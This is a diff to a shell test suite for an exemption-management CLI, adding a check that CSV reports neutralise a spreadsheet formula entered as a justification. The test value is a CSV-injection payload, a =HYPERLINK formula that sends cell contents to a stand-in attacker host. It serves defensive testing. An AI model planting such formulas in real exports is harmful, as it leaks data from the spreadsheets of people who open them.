@@ -11,6 +11,7 @@ command -v sqlite3 >/dev/null || { echo "sqlite3 CLI is required" >&2; exit 1; }
 
 readonly kDay=86400
 readonly kJustification='Docking station breaks on the new kernel, see "TICKET-7"'
+readonly kFormulaJustification='=HYPERLINK("https://attacker.invalid/?leak="&A1,"short-lived")'
 
 # assert_line ERE WHAT — one whole line of exemptctl's output matches ERE.
 assert_line() {
@@ -90,8 +91,9 @@ case_make_history() {
     sleep 1.1
     save after "$(now_rfc3339)"
 
-    # One more exemption, requested, approved and revoked.
-    ctl admin exemption request --subject device:AUD-DENY-1 --control FW-01 --justification "short-lived" \
+    # One more exemption, requested, approved and revoked; its justification would be a formula
+    # in a spreadsheet.
+    ctl admin exemption request --subject device:AUD-DENY-1 --control FW-01 --justification "$kFormulaJustification" \
         --likelihood low --impact low --expires-in 10d --json
     assert_ctl 0
     id="$(jget "$CTL_OUT" .id)"
@@ -240,10 +242,16 @@ case_report_exemptions() {
     csv_parse "$TEST_TMP/revoked.csv" >"$TEST_TMP/revoked.rows"
     assert_eq 2 "$(wc -l <"$TEST_TMP/revoked.rows")" "report --state revoked rows (header + 1)"
     assert_contains "$CTL_OUT" "laptop replaced" "revoked row"
+    # Shown as text behind an apostrophe, not run as a formula (CSV injection); JSON keeps it.
+    local neutralised="\"'=HYPERLINK(\"\"https://attacker.invalid/?leak=\"\"&A1,\"\"short-lived\"\")\""
+    grep -qF -- "$neutralised" "$TEST_TMP/revoked.csv" \
+        || fail "the formula justification is not neutralised in: $(cat "$TEST_TMP/revoked.csv")"
+    assert_eq 1 "$(grep -c 'HYPERLINK' "$TEST_TMP/revoked.csv")" "rows naming the formula"
 
     ctl helpdesk report exemptions --format json
     assert_ctl 0
     assert_eq "$count" "$(jcount "$CTL_OUT" .exemptions)" "report json"
+    assert_contains "$CTL_OUT" '"justification":"=HYPERLINK(' "report json keeps the justification as written"
     ctl helpdesk report exemptions --format xml
     assert_ctl 2
 }
